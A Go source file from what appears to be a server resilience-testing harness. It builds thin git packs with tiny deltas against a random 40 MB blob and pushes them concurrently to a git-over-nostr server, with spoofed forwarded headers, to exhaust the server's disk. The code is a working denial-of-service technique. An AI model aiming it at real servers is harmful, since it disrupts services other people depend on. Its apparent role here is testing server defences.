package attack

import (
	"bytes"
	"compress/zlib"
	"context"
	"crypto/rand"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"

	"talon/host"
)

// thinPacks make the server append a large blob for each of their few bytes.
func thinPacks() []Attack {
	return []Attack{
		{
			Name: "thin-pack-anonymous", Text: "deltas against a blob of 40 MB for events that are not here, from one address",
			Count: 8, Unit: "pushes", Disk: 200 << 20, // 16 MiB each, and the honest pushes
			Prepare: func(ctx context.Context, t *Target, count int) (Run, error) {
				return prepareThinPacks(ctx, t, count, false)
			},
		},
		{
			Name: "thin-pack-owner", Text: "deltas against a blob of 40 MB by the owner of a repository",
			Count: 10, Unit: "pushes", Disk: 300 << 20,
			Prepare: func(ctx context.Context, t *Target, count int) (Run, error) {
				return prepareThinPacks(ctx, t, count, true)
			},
		},
	}
}

const largeBlob = 40 << 20

const pushesAtOnce = 4

func prepareThinPacks(ctx context.Context, t *Target, count int, owner bool) (Run, error) {
	large := make([]byte, largeBlob)
	_, _ = rand.Read(large)
	p, base, err := ownRepository(ctx, t, "thin", large)
	if err != nil {
		return nil, err
	}
	tags := []host.Tag{{"d", "thin"}, {"refs/heads/main", base}, {"HEAD", "ref: refs/heads/main"}}
	var pushes [][]byte
	for i := range count {
		pack, commit := thinPack(large, base, i)
		ref := fmt.Sprint("refs/heads/b", i)
		if owner {
			tags = append(tags, host.Tag{ref, commit})
		} else {
			id := sha256.Sum256([]byte(commit)) // of an event that is not here
			ref = "refs/nostr/" + hexOf(id[:])
		}
		line := fmt.Sprintf("%s %s %s\x00report-status", strings.Repeat("0", 40), commit, ref)
		pushes = append(pushes, append(fmt.Appendf(nil, "%04x%s0000", len(line)+4, line), pack...))
	}
	state := p.sign(30618, 5000, "", tags...)
	url := t.url(p.repo("thin").Path()) + "/git-receive-pack"
	return func(ctx context.Context) Outcome {
		said := ""
		if owner {
			if _, no, why := t.flood(ctx, attacker(0), [][]byte{eventMessage(state)}); no > 0 {
				said = why
			}
		}
		var mu sync.Mutex // guards the figures and said
		f := Figures{"pushes": int64(count)}
		var wg sync.WaitGroup
		turns := make(chan struct{}, pushesAtOnce)
		for _, body := range pushes {
			wg.Go(func() {
				turns <- struct{}{}
				defer func() { <-turns }()
				answer := postPush(ctx, url, body)
				mu.Lock()
				defer mu.Unlock()
				f["sent"] += int64(len(body))
				switch {
				case bytes.Contains(answer, []byte("unpack ok")) && !bytes.Contains(answer, []byte("ng refs/")):
					f["accepted"]++
				case said == "":
					said = strings.ToValidUTF8(string(answer[:min(len(answer), maxExample)]), "")
				}
			})
		}
		wg.Wait()
		<-ctx.Done()
		return Outcome{f, said}
	}, nil
}

// postPush returns the answer of the server to a push, or an error as text.
func postPush(ctx context.Context, url string, body []byte) []byte {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(body))
	if err != nil {
		return []byte(err.Error())
	}
	req.Header = forwarded(attacker(0))
	req.Header.Set("Content-Type", "application/x-git-receive-pack-request")
	client := http.Client{Timeout: time.Minute}
	resp, err := client.Do(req)
	if err != nil {
		return []byte(err.Error())
	}
	defer resp.Body.Close()
	answer, err := io.ReadAll(resp.Body)
	if err != nil {
		return append(answer, err.Error()...)
	}
	return answer
}

// thinPack returns a pack with a commit upon base whose file is a text and the first bytes of the
// blob. The pack has this text and the name of the blob. All objects of the pack are small, and
// git still appends the blob.
func thinPack(blob []byte, base string, n int) (pack []byte, commit string) {
	insert := fmt.Appendf(nil, "version %d\n", n)
	const copied = 100
	edited := objectID("blob", append(insert, blob[:copied]...))

	delta := binary.AppendUvarint(nil, uint64(len(blob)))
	delta = binary.AppendUvarint(delta, uint64(len(insert)+copied))
	delta = append(append(delta, byte(len(insert))), insert...)
	delta = append(delta, 0x80|0x10, copied) // from the start, one byte of size
	tree := append([]byte("100644 large\x00"), edited...)
	text := fmt.Appendf(nil, "tree %s\nparent %s\nauthor a <a@example.com> %d +0000\ncommitter a <a@example.com> %d +0000\n\nversion %d\n",
		hexOf(objectID("tree", tree)), base, 1700000100+n, 1700000100+n, n)

	source := objectID("blob", blob)
	pack = binary.BigEndian.AppendUint32([]byte("PACK\x00\x00\x00\x02"), 3)
	pack = appendObject(pack, 7, delta, source)
	pack = appendObject(pack, 2, tree, nil)
	pack = appendObject(pack, 1, text, nil)
	sum := sha1.Sum(pack)
	return append(pack, sum[:]...), hex.EncodeToString(objectID("commit", text))
}

func objectID(kind string, body []byte) []byte {
	h := sha1.New()
	fmt.Fprintf(h, "%s %d\x00", kind, len(body))
	_, _ = h.Write(body)
	return h.Sum(nil)
}

// appendObject appends an object of a pack: its type and size, the base of a delta, and the
// compressed body.
func appendObject(pack []byte, kind byte, body, base []byte) []byte {
	size := len(body)
	head := kind<<4 | byte(size&15)
	for size >>= 4; size > 0; size >>= 7 {
		pack = append(pack, head|0x80)
		head = byte(size & 127)
	}
	pack = append(append(pack, head), base...)
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write(body)
	_ = w.Close()
	return append(pack, b.Bytes()...)
}
